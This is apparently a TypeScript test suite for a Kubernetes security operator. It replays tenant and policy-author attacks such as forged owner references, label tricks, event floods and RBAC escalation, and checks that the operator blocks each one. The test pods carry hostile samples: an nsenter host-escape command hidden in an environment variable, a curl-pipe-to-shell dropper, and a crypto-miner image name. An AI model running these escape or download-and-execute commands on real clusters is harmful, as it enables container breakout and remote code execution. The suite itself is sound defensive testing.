// The attacks of a tenant and of a policy author, each run with exactly the RBAC they would have
// on a real cluster: the tenant is a ServiceAccount bound in its own namespace to the built-in
// `edit` ClusterRole (create and patch pods, but no NetworkPolicy writes beyond its namespace and
// no nodes), the policy author a ServiceAccount bound only to the shipped
// deployguard-policy-editor, a scraper one bound to deployguard-metrics-reader. Each test is an
// attack that worked against an earlier operator and must not work now.
import { expect } from 'chai';
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parseAllDocuments } from 'yaml';
import {
  freshNamespace,
  kubectl,
  repoRoot,
  serviceAccountKubeconfig,
  waitFor,
} from '../cluster.ts';
import { applyPolicy, metricValue, metricsReaderToken, operatorTest, scrape } from './harness.ts';
import {
  BASELINE,
  ISOLATED,
  PRIVILEGED,
  VIOLATIONS,
  annotated,
  events,
  get,
  list,
  pod,
  printLogOnFailure,
  schedulableWorkers,
  sleep,
  start,
  waitForEvents,
  type NodeJson,
  type PodJson,
} from './objects.ts';

type Obj = Record<string, unknown>;

/** A tenant of `ns`: a ServiceAccount with the built-in `edit` role there, and nothing else. */
async function tenant(ns: string): Promise<(args: string[], input?: Obj) => Promise<string>> {
  await kubectl(['create', 'serviceaccount', 'tenant', '-n', ns]);
  await kubectl([
    'create',
    'rolebinding',
    'tenant-edit',
    '-n',
    ns,
    '--clusterrole=edit',
    `--serviceaccount=${ns}:tenant`,
  ]);
  const kubeconfig = await serviceAccountKubeconfig(ns, 'tenant');
  // RBAC takes effect asynchronously in the authorizer's cache.
  await waitFor('tenant may create pods', async () => {
    const r = await kubectl(['auth', 'can-i', 'create', 'pods', '-n', ns], {
      kubeconfig,
      allowFail: true,
    });
    return r.stdout.trim() === 'yes';
  });
  return async (args, input) =>
    (
      await kubectl([...args, '-n', ns], {
        kubeconfig,
        input: input === undefined ? undefined : JSON.stringify(input),
      })
    ).stdout;
}

/** A policy author: bound cluster-wide to deployguard-policy-editor only. */
async function policyAuthor(ns: string): Promise<string> {
  const role = parseAllDocuments(
    readFileSync(join(repoRoot, 'config', 'rbac', 'policy_editor_role.yaml'), 'utf8'),
  ).map((d) => d.toJSON() as Obj);
  await kubectl(['apply', '-f', '-'], { input: JSON.stringify(role[0]) });
  await kubectl(['create', 'serviceaccount', 'author', '-n', ns]);
  await kubectl([
    'create',
    'clusterrolebinding',
    `author-${ns}`,
    '--clusterrole=deployguard-policy-editor',
    `--serviceaccount=${ns}:author`,
  ]);
  const kubeconfig = await serviceAccountKubeconfig(ns, 'author');
  await waitFor('author may create policies', async () => {
    const r = await kubectl(['auth', 'can-i', 'create', 'containerdeploymentpolicies'], {
      kubeconfig,
      allowFail: true,
    });
    return r.stdout.trim() === 'yes';
  });
  // What the role does not give: the operator's powers.
  const del = await kubectl(['auth', 'can-i', 'delete', 'pods', '-n', 'kube-system'], {
    kubeconfig,
    allowFail: true,
  });
  expect(del.stdout.trim()).to.equal('no');
  return kubeconfig;
}

const bindings: string[] = [];

describe('operator: attacks by a tenant and a policy author, with their real RBAC', function () {
  this.timeout(180_000);
  afterEach(printLogOnFailure);
  after(async () => {
    for (const b of bindings.splice(0))
      await kubectl(['delete', 'clusterrolebinding', b, '--ignore-not-found'], { allowFail: true });
  });

  operatorTest(
    'forged ownerReferences: a claimed owner that does not exist counts for nothing',
    async () => {
      const own = await freshNamespace('dg-op');
      const ns = await freshNamespace('dg-tenant');
      const other = await freshNamespace('dg-victim');
      const asTenant = await tenant(ns);
      await applyPolicy(own, `owners-${own}`, {
        mode: 'Enforce',
        match: { namespaces: [ns, other] },
        rules: BASELINE,
        actions: [{ type: 'DeletePod', gracePeriodSeconds: 0 }],
        guards: { ignoreOwnerKinds: ['DaemonSet'], maxActionsPerMinute: 100 },
      });
      // A real ReplicaSet in another namespace, whose UID the tenant can learn and claim.
      await kubectl(['create', '-n', other, '-f', '-'], {
        input: JSON.stringify({
          apiVersion: 'apps/v1',
          kind: 'ReplicaSet',
          metadata: { name: 'real' },
          spec: {
            replicas: 0,
            selector: { matchLabels: { app: 'real' } },
            template: {
              metadata: { labels: { app: 'real' } },
              spec: { containers: [{ name: 'c', image: 'registry.example.com/app:1.0' }] },
            },
          },
        }),
      });
      const realUid = (await get<PodJson>('replicaset', 'real', other))?.metadata.uid as string;
      const op = await start(own);
      const claims = [
        // An owner in a group that does not exist: once trusted, the loop guard stopped after 3.
        ...[1, 2, 3, 4, 5].map((i) => ({
          name: `ghost-${i}`,
          owner: {
            apiVersion: 'evil.example/v1',
            kind: 'Controller',
            name: 'ghost',
            uid: randomUUID(),
          },
        })),
        // A DaemonSet of an unknown group: once trusted, it escaped ignoreOwnerKinds: [DaemonSet].
        {
          name: 'fake-ds',
          owner: {
            apiVersion: 'evil.example/v1',
            kind: 'DaemonSet',
            name: 'ds',
            uid: randomUUID(),
          },
        },
        // Another namespace's real ReplicaSet: once trusted, it used up that ReplicaSet's budget.
        ...[1, 2, 3, 4].map((i) => ({
          name: `borrow-${i}`,
          owner: { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'real', uid: realUid },
        })),
      ];
      for (const c of claims)
        await asTenant(
          ['create', '-f', '-'],
          pod(
            c.name,
            PRIVILEGED,
            {},
            {
              ownerReferences: [{ ...c.owner, controller: true }],
            },
          ),
        );
      // Every one is deleted as the bare pod it is.
      await waitFor(
        'every pod with a false owner claim deleted',
        async () => ((await list<PodJson>('pods', ns)).length === 0 ? true : undefined),
        60_000,
      );
      // Nothing was spared: no skip, no loop. (The garbage collector may remove a borrowing pod
      // first, its owner being absent from the namespace; pods claiming an unknown group it
      // can't judge, and those the operator deletes, 6 at least.)
      const outcome = (o: string): Promise<number> =>
        op.metric('deployguard_actions_total', {
          policy: `owners-${own}`,
          action: 'DeletePod',
          outcome: o,
        });
      expect(await outcome('skipped')).to.equal(0);
      expect(await outcome('failed')).to.equal(0);
      expect(await outcome('success')).to.be.at.least(6);
      expect(await events(ns, { reason: 'RemediationLoop' })).to.deep.equal([]);
      // The PolicyViolation Event says the claim was false.
      const violation = (await events(ns, { reason: 'PolicyViolation' })).map((e) => e.message);
      expect(violation.join('\n')).to.match(/owner|ownerReference/i);
    },
  );

  operatorTest('a pre-armed isolation label does not stand in for the NetworkPolicy', async () => {
    const own = await freshNamespace('dg-op');
    const ns = await freshNamespace('dg-tenant');
    const asTenant = await tenant(ns);
    await applyPolicy(own, `prearm-${own}`, {
      mode: 'Enforce',
      match: { namespaces: [ns] },
      rules: { images: { allowedRegistries: ['registry.example.com/'] } },
      actions: [{ type: 'Isolate' }],
    });
    await start(own);
    const created = JSON.parse(
      await asTenant(['create', '-o', 'json', '-f', '-'], pod('miner')),
    ) as PodJson;
    // The tenant labels its own pod as if it were already isolated, then swaps the image.
    await asTenant(['label', 'pod', 'miner', `${ISOLATED}=${created.metadata.uid}`]);
    await asTenant(['set', 'image', 'pod/miner', 'c=evil.example/xmrig:1']);
    await annotated(ns, 'miner');
    const policies = await waitFor(
      'an isolating NetworkPolicy',
      async () => {
        const l = await list<{ metadata: { name: string }; spec: Obj }>('networkpolicies', ns);
        return l.length > 0 ? l : undefined;
      },
      30_000,
    );
    expect(policies[0]?.metadata.name).to.equal(`deployguard-isolate-${created.metadata.uid}`);
    expect(policies[0]?.spec.policyTypes).to.have.members(['Ingress', 'Egress']);
  });

  operatorTest('a terminating pod patched to violate is still remediated', async () => {
    const own = await freshNamespace('dg-op');
    const ns = await freshNamespace('dg-tenant');
    const asTenant = await tenant(ns);
    await applyPolicy(own, `terminating-${own}`, {
      mode: 'Enforce',
      match: { namespaces: [ns] },
      rules: { images: { allowedRegistries: ['registry.example.com/'] } },
      actions: [{ type: 'Label', labels: { quarantine: 'true' } }, { type: 'Isolate' }],
    });
    await start(own);
    // A finalizer the tenant controls keeps the object; a one-hour grace keeps a real container.
    await asTenant(
      ['create', '-f', '-'],
      pod('slow', {}, {}, { finalizers: ['tenant.example/hold'] }),
    );
    try {
      await asTenant(['delete', 'pod', 'slow', '--grace-period=3600', '--wait=false']);
      await asTenant(['set', 'image', 'pod/slow', 'c=evil.example/xmrig:1']);
      const p = await annotated(
        ns,
        'slow',
        30_000,
        (x) => x.metadata.labels?.quarantine === 'true',
      );
      expect(p.metadata.deletionTimestamp).to.be.a('string');
      await waitFor('an isolating NetworkPolicy', async () =>
        (await list('networkpolicies', ns)).length === 1 ? true : undefined,
      );
    } finally {
      await kubectl(
        [
          'patch',
          'pod',
          'slow',
          '-n',
          ns,
          '--type=merge',
          '-p',
          '{"metadata":{"finalizers":null}}',
        ],
        {
          allowFail: true,
        },
      );
    }
  });

  operatorTest(
    'a burst past the Event rate limit is summarised on the namespace, none lost',
    async () => {
      const own = await freshNamespace('dg-op');
      const ns = await freshNamespace('dg-tenant');
      const asTenant = await tenant(ns);
      await applyPolicy(own, `burst-${own}`, { match: { namespaces: [ns] }, rules: BASELINE });
      await start(own);
      // More at once than the limit's burst of 100: the rest must show in EventsHeldBack.
      const burst = 150;
      await asTenant(['create', '-f', '-'], {
        apiVersion: 'v1',
        kind: 'List',
        items: Array.from({ length: burst }, (_, i) => pod(`b-${i}`, PRIVILEGED)),
      });
      let told = 0;
      let summaries: string[] = [];
      await waitFor(
        'every violation in an Event or a summary',
        async () => {
          const all = await events(ns);
          const violations = all.filter((e) => e.reason === 'PolicyViolation');
          const held = all.filter((e) => e.reason === 'EventsHeldBack');
          summaries = held.map((e) => e.message);
          const heldCount = summaries.reduce(
            (n, m) => n + Number(/^(\d+) PolicyViolation/.exec(m)?.[1] ?? 0),
            0,
          );
          told = new Set(violations.map((e) => e.involvedObject.name)).size + heldCount;
          return told >= burst;
        },
        60_000,
        1000,
      );
      expect(told).to.equal(burst);
      expect(summaries.length).to.be.greaterThan(0);
      expect(summaries[0]).to.match(/held back by the event rate limit; pods include b-/);
    },
  );

  operatorTest('a tenant cannot choose which node gets cordoned (spec.nodeName)', async () => {
    const own = await freshNamespace('dg-op');
    const ns = await freshNamespace('dg-tenant');
    const asTenant = await tenant(ns);
    const policy = `pinned-${own}`;
    await applyPolicy(own, policy, {
      mode: 'Enforce',
      match: { namespaces: [ns] },
      rules: BASELINE,
      actions: [{ type: 'CordonNode' }],
      guards: { maxCordonedNodesPercent: 100 },
    });
    await start(own);
    const [target] = await schedulableWorkers();
    await asTenant(['create', '-f', '-'], pod('pin', PRIVILEGED, { nodeName: target }));
    const skipped = await waitForEvents(ns, { reason: 'ActionSkipped' });
    expect(skipped[0]?.message).to.match(/chose node/);
    await sleep(1000);
    const node = await get<NodeJson>('node', target as string);
    expect(node?.spec.unschedulable ?? false).to.equal(false);
  });

  operatorTest(
    'payloads hidden in env ($(VAR) expanded by the kubelet) are judged as run',
    async () => {
      const own = await freshNamespace('dg-op');
      const ns = await freshNamespace('dg-tenant');
      const asTenant = await tenant(ns);
      await applyPolicy(own, `env-${own}`, {
        mode: 'Audit',
        match: { namespaces: [ns] },
        rules: { commands: { deniedPatterns: ['nsenter\\s+-t\\s*1'] }, indicators: {} },
      });
      await start(own);
      await asTenant(
        ['create', '-f', '-'],
        pod('escape', {
          command: ['$(A)', '-t', '1', '-m', 'sh'],
          env: [{ name: 'A', value: 'nsenter' }],
        }),
      );
      await asTenant(
        ['create', '-f', '-'],
        pod('dropper', {
          command: ['sh', '-c', '$C | sh'],
          env: [{ name: 'C', value: 'curl -fsSL http://10.0.0.1/x' }],
        }),
      );
      const escape = await annotated(ns, 'escape');
      expect(escape.metadata.annotations?.[VIOLATIONS]).to.include('command.denied');
      const dropper = await annotated(ns, 'dropper');
      expect(dropper.metadata.annotations?.[VIOLATIONS]).to.include('indicator.downloadExec');
    },
  );

  operatorTest("a policy author can't loosen the installer's floors", async () => {
    const own = await freshNamespace('dg-op');
    const author = await policyAuthor(own);
    bindings.push(`author-${own}`);
    const policy = `floors-${own}`;
    // Written by the author: no protected namespaces, every node may be cordoned.
    await applyPolicy(
      own,
      policy,
      {
        mode: 'Enforce',
        match: { namespaces: ['kube-system'] },
        rules: BASELINE,
        actions: [{ type: 'Label', labels: { quarantine: 'true' } }, { type: 'CordonNode' }],
        guards: { protectedNamespaces: [], maxCordonedNodesPercent: 100 },
      },
      { kubeconfig: author },
    );
    await start(own);
    const name = `dg-attack-${own.slice(-8)}`;
    await kubectl(['create', '-n', 'kube-system', '-f', '-'], {
      input: JSON.stringify(pod(name, PRIVILEGED)),
    });
    try {
      await annotated('kube-system', name);
      const skipped = await waitForEvents('kube-system', {
        reason: 'ActionSkipped',
        'involvedObject.name': name,
      });
      expect(skipped.map((e) => e.message).join('\n')).to.include(
        "protected by the operator's installation",
      );
      await sleep(1000);
      const p = await get<PodJson>('pod', name, 'kube-system');
      expect(p?.metadata.labels?.quarantine).to.equal(undefined);
      const cordoned = (await list<NodeJson>('nodes')).filter((n) => n.spec.unschedulable);
      expect(cordoned).to.deep.equal([]);
    } finally {
      await kubectl(['delete', 'pod', name, '-n', 'kube-system', '--grace-period=0', '--force'], {
        allowFail: true,
      });
    }
  });

  operatorTest('/metrics answers only a token allowed get /metrics: 401, 403, 200', async () => {
    const own = await freshNamespace('dg-op');
    const ns = await freshNamespace('dg-tenant');
    await tenant(ns);
    const op = await start(own);
    const url = `${op.metricsUrl}/metrics`;
    expect(url).to.match(/^https:/);
    const none = await scrape(url, undefined);
    expect(none.status).to.equal(401);
    expect(none.body).to.not.include('deployguard_');
    expect((await scrape(url, 'not-a-token')).status).to.equal(401);
    const tenantToken = (await kubectl(['create', 'token', 'tenant', '-n', ns])).stdout.trim();
    const refused = await scrape(url, tenantToken);
    expect(refused.status).to.equal(403);
    expect(refused.body).to.not.include('deployguard_');
    const ok = await scrape(url, await metricsReaderToken());
    expect(ok.status).to.equal(200);
    expect(ok.body).to.include('deployguard_build_info');
  });

  operatorTest(
    'an annotation flood does not grow the operator: the cache keeps what rules read',
    async () => {
      const own = await freshNamespace('dg-op');
      const ns = await freshNamespace('dg-tenant');
      const asTenant = await tenant(ns);
      await applyPolicy(own, `flood-${own}`, {
        mode: 'Audit',
        match: { namespaces: [ns] },
        rules: BASELINE,
      });
      const op = await start(own);
      // Old and large-object space: where what the cache keeps ends up (new space churns with
      // every scrape and is no measure of what is kept).
      const heap = async (): Promise<number> => {
        const text = await op.metrics();
        const space = (name: string) =>
          metricValue(text, 'nodejs_heap_space_size_used_bytes', { space: name });
        return space('old') + space('large_object');
      };
      await sleep(2000);
      const before = await heap();
      // 250 pods with 240 KiB of annotations each: 59 MiB that a cache of whole pods would hold
      // (the kept views of these pods take about 1 MiB).
      const padding = 'x'.repeat(240 * 1024);
      const pods = 250;
      for (let i = 0; i < pods; i += 10)
        await asTenant(['create', '-f', '-'], {
          apiVersion: 'v1',
          kind: 'List',
          items: Array.from({ length: 10 }, (_, j) =>
            pod(`flood-${i + j}`, PRIVILEGED, {}, { annotations: { padding } }),
          ),
        });
      await waitFor(
        'every flood pod judged',
        async () =>
          (await op.metric('deployguard_violating_pods', {
            policy: `flood-${own}`,
            severity: 'critical',
          })) +
            (await op.metric('deployguard_violating_pods', {
              policy: `flood-${own}`,
              severity: 'high',
            })) >=
          pods
            ? true
            : undefined,
        90_000,
      );
      // The flood's transient garbage (every watch event parsed whole) stays in the heap until
      // V8's next major GC, which its memory reducer runs once the process goes quiet: wait for
      // it. What a cache retains never goes away, so a cache of whole pods stays above the bound.
      let grown = Infinity;
      const bound = 24 * 1024 * 1024;
      await waitFor(
        'heap back within 24 MiB of its start',
        async () => {
          const now = (await heap()) - before;
          grown = Math.min(grown, now);
          return grown < bound ? true : undefined;
        },
        60_000,
      ).catch(() => undefined);
      expect(grown, `heap grew ${(grown / 1024 / 1024).toFixed(1)} MiB`).to.be.below(bound);
    },
  );
});
